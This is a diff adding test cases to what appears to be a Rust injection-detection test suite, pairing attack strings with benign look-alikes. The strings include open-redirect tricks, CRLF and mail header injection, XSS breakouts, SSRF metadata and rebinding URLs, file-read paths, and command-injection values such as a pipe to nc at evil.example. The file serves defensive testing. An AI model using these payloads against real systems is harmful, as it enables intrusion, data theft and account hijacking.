@@ -98,7 +98,9 @@ fn ssrf_without_slashes_or_scheme() {
         ],
         &[
             "localhost",
-            "http:example.com",
+            // A public host without slashes is no SSRF (as a whole value it is
+            // redirect-002's: browsers leave the site for it).
+            "visit http:example.com",
             "see http: and https: schemes",
             "my laptop is not localhost-friendly",
             // A host name that starts like hex; a bare hex number is evasion-003's.
@@ -3242,6 +3244,148 @@ fn options_that_make_a_tool_run_a_program_or_write_a_script() {
         &[
             "email me @System admin",
             "{math equation=\"x + y\" x=4 y=5}",
+        ],
+    );
+}
+
+/// Set 24 (written before tuning): redirect targets that fool a local-path or own-domain
+/// check, header injection from body fields, mail header words, parenthesis-free script
+/// breakouts, rebinding hosts; and the look-alikes that must pass.
+#[test]
+fn redirect_confusions_header_lines_and_their_look_alikes() {
+    const B: FieldKind = FieldKind::BodyValue;
+    table(
+        "redirect",
+        Q,
+        &[
+            "\\\\attacker.example",
+            "/\t/attacker.example",
+            "///attacker.example",
+            "///evil.example.com/login",
+            "https:attacker.example",
+            "https:/attacker.example/login",
+            "〱attacker.example",
+            "ゝattacker.example",
+            "//attacker。example",
+            "https://attacker.example#.example.com",
+            "//attacker.example\\@example.com",
+            "attacker.example:443\\@example.com",
+        ],
+        &[
+            "\\\\fs01.corp.local\\share\\report.xlsx",
+            "//cdn.example.com/lib.js",
+            "https://example.com/#section",
+            "https://example.com/?q=1",
+            "ーテスト",
+            "ワールドカップ。example",
+            "http://example.com/a",
+            "https:",
+            "DOMAIN\\user@example.com",
+            "///filled.count.soap",
+        ],
+    );
+    table(
+        "crlf",
+        B,
+        &[
+            "api/v1/users/\r\nX-Forwarded-Host:attacker.example",
+            "\r\nAccess-Control-Allow-Origin: https://attacker.example",
+            "\r\nLink: <https://attacker.example/x.css>;rel=stylesheet",
+            "\r\nCache-Control: public,max-age=31536000",
+            "users/\r\nX-Accel-Redirect: /internal/admin/",
+            "example.com\u{2028}Set-Cookie:x=1",
+            "x\u{85}Set-Cookie: sid=1",
+        ],
+        &[
+            "Hi,\r\nCache-Control: no-store is what we send",
+            "Content-Type:application/json\nCache-Control:no-cache",
+            "Hello team\r\nHost: the meeting is at 5",
+            "Set-up notes:\nLocation: Berlin office",
+            "Thanks!\r\nLink: see the wiki",
+        ],
+    );
+    table(
+        "crlf",
+        Q,
+        &[
+            "čĊSet-Cookie:crlf=injection",
+            "Ċlocation: https://evil.example",
+        ],
+        &["Dobrý den, lokač Location", "Ċ"],
+    );
+    table(
+        "mail",
+        B,
+        &[
+            "victim@example.com\r\nReturn-Path: bounce@attacker.example",
+            "victim@example.com\r\nDisposition-Notification-To: spy@attacker.example",
+            "=?UTF-8?Q?x=0D=0ABcc:_y@attacker.example?=",
+            "=?iso-8859-1?q?Hi=0ATo:_a@evil.example?=",
+        ],
+        &[
+            "=?UTF-8?Q?Caf=C3=A9_Team?=",
+            "Return path: the courier took it back",
+        ],
+    );
+    table(
+        "xss",
+        Q,
+        &[
+            "';onerror=alert;throw 1;//",
+            "\"}{onerror=eval}throw'=alert\\x281\\x29'//",
+            "<input autofocus ng-focus=$event.composedPath()|orderBy:'[].constructor.from([1],alert)'>",
+        ],
+        &[
+            "window.onerror handler; throw away the old one",
+            "<input ng-model=name>",
+        ],
+    );
+    table(
+        "ssrf",
+        B,
+        &[
+            "http://169.254.169.254.1time.127.0.0.1.forever.rebind.network/latest/meta-data/",
+            "http://rancher-metadata/latest/self/container",
+        ],
+        &[
+            "Set HTTPS_PROXY=http://proxy.corp.local:3128 and NO_PROXY=localhost,127.0.0.1 but the CLI still times out",
+            "http://1.2.3.4.rebind.network/",
+        ],
+    );
+    table(
+        "lfi",
+        Q,
+        &[
+            "\"/var/log/apache2/access.log\"",
+            "x\"/etc/passwd",
+            "{\"file\":\"/etc/passwd\"}",
+        ],
+        &[
+            "host:ip-10-0-12-34* AND source:\"/var/log/syslog\" AND \"disk quota exceeded\"",
+            "source:%22/var/log/syslog%22%20AND%20%22disk%20quota%22",
+        ],
+    );
+    table(
+        "sqli",
+        Q,
+        &[
+            "select * from northwind.dbo.orders",
+            "SELECT * FROM Northwind.Customers",
+        ],
+        &[
+            "GDPR request: please delete all data for former employee j.doe@northwind.example (user ID 55102).",
+            "https://www.northwind.example/careers",
+        ],
+    );
+    table(
+        "cmdi",
+        Q,
+        &[";(id|sh)", "$(id|sh)", "x (whoami|nc evil.example 4444)"],
+        &[
+            "^(build|test|lint)(/.+)?$",
+            "^(feat|fix|docs|chore|refactor|test|ci)(\\([a-z0-9-]+\\))?!?: .{1,72}$",
+            "^(feature|bugfix|hotfix)/[A-Z]+-[0-9]+$",
+            "(?:test|lint)",
         ],
     );
 }
